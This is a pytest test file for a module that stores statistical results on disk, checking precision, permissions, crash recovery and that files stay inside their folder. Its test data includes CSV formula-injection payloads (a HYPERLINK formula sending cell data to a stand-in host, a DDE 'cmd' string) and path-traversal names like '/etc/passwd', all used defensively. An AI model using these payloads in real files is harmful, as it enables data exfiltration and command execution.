"""Results on disk: every number as it was, whole or not at all, and never outside of
the folder.
"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agents.statistics import results
from agents.statistics.results import Result, list_results, read_result, write_result
from protocol.errors import BadRequest, Conflict, NotFound

NOTES = {
    "method": "sum",
    "providers": [2, 3],
    "withheld": [{"group": ["f"], "rule": "min_rows", "threshold": "10"}],
}


def write(folder: Path, order_id: int = 37, **changes: Any) -> str:
    given = {
        "alias": "total",
        "type": "csv",
        "columns": ["sex", "total"],
        "rows": [["f", 0.1], [None, 2**70]],
    }
    return write_result(folder, order_id, **{**given, "notes": NOTES, **changes})


def test_a_csv_with_its_notes(tmp_path: Path) -> None:
    assert write(tmp_path / "results") == "37/total.csv"
    folder = tmp_path / "results" / "37"
    assert (folder / "total.csv").read_text() == f"sex,total\nf,0.1\n,{2**70}\n"
    said = {"order_id": 37, "result_alias": "total", "type": "csv", "n_rows": 2}
    assert json.loads((folder / "total.notes.json").read_text()) == {**NOTES, **said}
    assert [
        oct(path.stat().st_mode & 0o777) for path in (folder, folder / "total.csv")
    ] == ["0o700", "0o600"]
    assert sorted(os.listdir(folder)) == ["total.csv", "total.notes.json"]


def test_json_keeps_every_digit(tmp_path: Path) -> None:
    many = Decimal("-12345678901234567890.000000000000000001")
    write(
        tmp_path,
        type="json",
        columns=["住院号", "x"],
        rows=[["甲\n", many], [None, 1e-300], ["", 7]],
    )
    text = (tmp_path / "37/total.json").read_text("utf-8")
    assert json.loads(text, parse_float=Decimal)[0] == {"住院号": "甲\n", "x": many}
    assert json.loads(text)[1:] == [
        {"住院号": None, "x": 1e-300},
        {"住院号": "", "x": 7},
    ]


def test_a_row_of_nothing_is_a_row(tmp_path: Path) -> None:
    write(tmp_path, columns=["var"], rows=[[None], [""], ["a,\r"], [" b"]])
    assert (tmp_path / "37/total.csv").read_bytes() == b'var\n""\n""\n"a,\r"\n" b"\n'
    assert [row["var"] for row in read_result(tmp_path, 37).rows()] == [
        "",
        "",
        "a,\r",
        " b",
    ]


@example(rows=[("\r", 0.0), ("\t=1", -0.5), ("=1", 1e300), ("a\r", 5e-324)])
@given(
    st.lists(
        st.tuples(
            st.text(st.characters(exclude_categories=["Cs"])),
            st.floats(allow_nan=False),
        )
    )
)
def test_any_text_and_float_is_read_as_it_was(
    tmp_path_factory: Any, rows: list[Any]
) -> None:
    finite = [row for row in rows if abs(row[1]) != float("inf")]
    folder = tmp_path_factory.mktemp("results")
    for kind in ("csv", "json"):
        write(folder, type=kind, rows=finite)
        with (folder / f"37/total.{kind}").open(newline="", encoding="utf-8") as file:
            found = list(csv.DictReader(file)) if kind == "csv" else json.load(file)
        for row, (text, number) in zip(found, finite, strict=True):
            may_be_formula = kind == "csv" and text.startswith(FORMULA_SIGNS)
            texts = {text, f"'{text}"} if may_be_formula else {text}
            assert row["sex"] in texts
            assert float(row["total"]) == number


# What a spreadsheet may take for a formula: a tab or a carriage return before one
# is dropped by some.
FORMULA_SIGNS = ("=", "@", "+", "-", "\t", "\r")


@pytest.mark.parametrize(
    ("text", "is_formula"),
    [
        ('=HYPERLINK("http://x/?"&B2)', True),
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("+A1\n(B2)", True),
        ("\t=A1", True),
        ("\r=A1", True),
        ("-1001", False),
        ("-1.5", False),
        ("+86 10 1234", False),
        ("-", False),
        ("a=1", False),
        ("<30 (low)", False),
    ],
)
def test_a_formula_is_a_text_in_a_spreadsheet(
    tmp_path: Path, text: str, is_formula: bool
) -> None:
    """Another hospital names its groups, and a spreadsheet would run the name."""
    for kind in ("csv", "json"):
        write(tmp_path, type=kind, columns=["sex", "total"], rows=[[text, 1]])
        (row,) = read_result(tmp_path, 37).rows()
        assert row["sex"] == ("'" if is_formula and kind == "csv" else "") + text
        (tmp_path / f"37/total.{kind}").unlink()


@pytest.mark.parametrize(
    "cell", [float("nan"), float("inf"), Decimal("NaN"), True, b"x", [1]]
)
@pytest.mark.parametrize("kind", ["csv", "json"])
def test_a_cell_that_is_none(tmp_path: Path, cell: Any, kind: str) -> None:
    with pytest.raises((ValueError, TypeError)):
        write(tmp_path, type=kind, rows=[["f", cell]])
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize(
    "changes", [{"columns": ["a", "a"]}, {"columns": ["a"]}, {"rows": [["f"]]}]
)
def test_columns_and_rows_that_do_not_fit(
    tmp_path: Path, changes: dict[str, Any]
) -> None:
    with pytest.raises(ValueError, match="column twice"):
        write(tmp_path, **changes)


ALIASES = [
    "",
    ".",
    "..",
    "../x",
    "a/b",
    "/etc/passwd",
    "a\\b",
    "a\0b",
    ".hidden",
    " a",
    "a ",
    "a\nb",
    "\x1b[2J",
    "C:x",
]


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        *(
            ({"alias": alias}, "result_alias")
            for alias in [*ALIASES, "甲" * 67, "\u2028"]
        ),
        ({"type": "xlsx"}, "result_type"),
        ({"type": "../csv"}, "result_type"),
        ({"order_id": 0}, "order_id"),
        ({"order_id": -1}, "order_id"),
    ],
)
def test_nothing_is_written_outside_of_the_folder(
    tmp_path: Path, changes: dict[str, Any], code: str
) -> None:
    with pytest.raises(BadRequest) as caught:
        write(tmp_path / "results", **changes)
    assert caught.value.code == code
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("alias", ["甲" * 66, "a b", "a.b", "total-1", "x.notes"])
def test_names_that_a_file_can_have(tmp_path: Path, alias: str) -> None:
    for kind in ("csv", "json"):
        write(tmp_path, 37 if kind == "csv" else 38, alias=alias, type=kind)
    assert [
        (found.order_id, found.alias, found.type) for found in list_results(tmp_path)
    ] == [
        (37, alias, "csv"),
        (38, alias, "json"),
    ]


def test_results_are_listed_by_order(tmp_path: Path) -> None:
    assert list_results(tmp_path / "none") == []
    for order_id in (100, 9):
        write(tmp_path, order_id)
    (tmp_path / "notes.txt").write_text("")
    (tmp_path / "11").mkdir()
    assert [found.order_id for found in list_results(tmp_path)] == [9, 100]
    found = read_result(tmp_path, 9)
    assert isinstance(found, Result)
    assert (found.relative_path, found.notes["method"]) == ("9/total.csv", "sum")
    assert found.rows() == [
        {"sex": "f", "total": "0.1"},
        {"sex": "", "total": str(2**70)},
    ]


def test_a_result_that_is_not_here(tmp_path: Path) -> None:
    for order_id in (5, 0, -1):
        with pytest.raises(NotFound) as caught:
            read_result(tmp_path, order_id)
        assert caught.value.code == "no_result"


def remove_answer(folder: Path) -> None:
    (folder / "total.json").unlink()


def remove_notes(folder: Path) -> None:
    (folder / "total.notes.json").unlink()


def cut_notes(folder: Path) -> None:
    (folder / "total.notes.json").write_text("{")


def point_elsewhere(folder: Path) -> None:
    (folder / "total.notes.json").write_text(
        json.dumps({"order_id": 37, "result_alias": "total", "type": "/../../x"}),
        "utf-8",
    )


@pytest.mark.parametrize(
    "damage", [remove_answer, remove_notes, cut_notes, point_elsewhere]
)
def test_half_a_result_is_none(tmp_path: Path, damage: Callable[[Path], None]) -> None:
    write(tmp_path, type="json")
    damage(tmp_path / "37")
    assert list_results(tmp_path) == []


def test_a_damaged_answer_is_told(tmp_path: Path) -> None:
    write(tmp_path, type="json")
    (tmp_path / "37/total.json").write_text("[{")
    with pytest.raises(Conflict):
        read_result(tmp_path, 37)


def test_a_crash_before_the_answer_leaves_none_and_the_next_try_writes_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written: list[str] = []

    def dies_at_the_second(path: Path, data: bytes) -> None:
        written.append(path.name)
        if len(written) == 2:
            raise OSError("disk full")
        path.write_bytes(data)

    with monkeypatch.context() as patch:
        patch.setattr(results, "write_durably", dies_at_the_second)
        with pytest.raises(OSError, match="disk full"):
            write(tmp_path)
    assert written == ["total.notes.json", "total.csv"]
    assert list_results(tmp_path) == []
    write(tmp_path)
    assert len(list_results(tmp_path)) == 1


@pytest.mark.parametrize("text", ["", "{", '{"order_id": 37'])
def test_notes_cut_short_are_no_missing_answer(tmp_path: Path, text: str) -> None:
    write(tmp_path)
    (tmp_path / "37/total.notes.json").write_text(text)
    with pytest.raises(Conflict, match="backup") as caught:
        read_result(tmp_path, 37)
    assert caught.value.code == "vault_damaged"
    assert list_results(tmp_path) == []
